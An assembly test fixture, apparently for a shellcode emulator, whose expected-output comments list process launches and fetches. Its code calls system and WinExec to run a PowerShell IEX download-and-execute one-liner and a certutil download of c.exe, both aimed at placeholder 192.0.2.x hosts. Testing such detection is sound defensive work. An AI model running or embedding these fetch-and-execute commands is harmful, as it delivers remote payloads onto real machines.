; SPDX-License-Identifier: GPL-2.0-or-later
; A program of the system is given what fetches the rest.
; expect: exec C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe powershell -nop -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.5/p')
; expect: fetch http://192.0.2.5/p
; expect: exec C:\Windows\System32\certutil.exe certutil -urlcache -split -f http://192.0.2.6/c c.exe
; expect: fetch http://192.0.2.6/c
%include "way32.inc"
	function "msvcrt.dll", "system"
	text "certutil -urlcache -split -f http://192.0.2.6/c c.exe"
	call eax
	pop eax
	function "kernel32.dll", "WinExec"
	push 0
	text "powershell -nop -c IEX(New-Object Net.WebClient).DownloadString('http://192.0.2.5/p')"
	call eax
	function "kernel32.dll", "ExitProcess"
	push 0
	call eax
